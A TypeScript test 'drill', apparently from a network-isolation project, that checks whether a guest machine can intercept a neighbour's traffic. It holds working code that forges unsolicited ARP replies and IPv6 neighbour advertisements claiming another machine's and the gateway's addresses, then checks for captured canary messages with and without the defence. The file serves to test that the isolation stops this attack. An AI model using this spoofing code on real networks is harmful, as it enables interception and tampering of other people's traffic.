// Drill: a machine tells its neighbours that it is the one that they talk to, by ARP and by neighbour discovery.
import { type Attempt, type Drill, ProvesNothingError } from '../drill.ts';
import { ALICE, BOB, MALLORY } from '../network/guest.ts';
import { PORTS, type Neighbourhood } from '../network/neighbourhood.ts';
import { LISTEN, program, TALK } from '../network/programs.ts';
import { attackUsual, attackWalled } from '../network/segments.ts';
import { newCanary } from '../victim.ts';

const SECONDS = 0.8;

/** RFC 826 and RFC 4861, 7.2.6: answers that nobody asked for, that Bob and the gateway have Mallory's card; and ears. */
const POISON = program(`
own = ARG['mallory']
def arp(claimed):
    body = struct.pack('!HHBBH', 1, 0x0800, 6, 4, 2) + mac(own['mac']) + ip(claimed) + mac(EVERYBODY) + ip(claimed)
    return frame(EVERYBODY, own['mac'], 0x0806, body)
def advertise(sender, claimed):
    # Override, and the link-layer address as an option.
    message = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + ip(claimed) + b'\\2\\1' + mac(own['mac'])
    return frame(ALL_NODES, own['mac'], 0x86dd, icmp6(sender, 'ff02::1', message))
lies = [arp(claimed) for claimed in (ARG['bob']['ipv4'], '169.254.1.1')]
lies += [advertise(sender, claimed) for claimed in (ARG['bob']['ipv6'], 'fe80::1') for sender in ('fe80::bad', claimed)]
answer(pelt(lies, ARG['seconds'], ARG['canaries']))
`);

export const arpSpoof: Drill = {
  name: 'arp-spoof',
  title: 'A machine puts itself between two others',
  adversaries: ['A1'],
  story:
    'On a shared segment machines ask each other who has which address, and believe any answer, even one that they did not ask for. The attacker answers for her neighbour: from then on she gets what is meant for that one, and can read it, change it and pass it on.',
  needsVictim: 'no',
  mustBeTrue:
    'The attacker has root in a machine of her own on the same host and network, and knows her neighbours’ addresses.',
  stoppedBy:
    'Each machine knows one neighbour, its gateway, which has all its neighbours written down. Its ARP may ask for the gateway and say nothing else; all else is dropped and counted, and never reaches another cable. On an Open vSwitch of Ringwall’s the switch answers such questions itself, and no answer of a machine’s reaches another.',

  without: (context) => attackUsual(context, 'machines on one bridge are told lies about their neighbours', poison),
  with: (context) => attackWalled(context, poison),
};

async function poison({ alice, bob, mallory }: Neighbourhood, seconds = SECONDS): Promise<Attempt[]> {
  const canaries = [newCanary(), newCanary()];
  const [first = '', second = ''] = canaries;
  const messages = [
    [BOB.ipv4, PORTS.talk, first],
    [BOB.ipv6, PORTS.talk, second],
  ];
  // They have talked before, so that each knows the other: that is what is overwritten.
  const honest = await bob.start(LISTEN, { port: PORTS.talk, seconds: seconds / 2 });
  await alice.run(TALK, { messages, seconds: seconds / 4 });
  const got = JSON.stringify(await honest.answer);
  if (!canaries.every((canary) => got.includes(canary))) {
    throw new ProvesNothingError('the honest machines cannot talk');
  }
  const lies = await mallory.start(POISON, { mallory: MALLORY, alice: ALICE, bob: BOB, canaries, seconds });
  const [heard] = await Promise.all([lies.answer, alice.run(TALK, { messages, seconds })]);
  const [ipv4, ipv6] = Array.isArray(heard) ? heard.map(Boolean) : [];
  return [
    attempt('be taken for the neighbour by ARP, and read what is sent to it', ipv4),
    attempt('be taken for the neighbour by neighbour discovery, and read what is sent to it', ipv6),
  ];
}

function attempt(what: string, succeeded = false): Attempt {
  return { what, succeeded, seen: succeeded ? 'the canary, on her card' : 'nothing of it' };
}
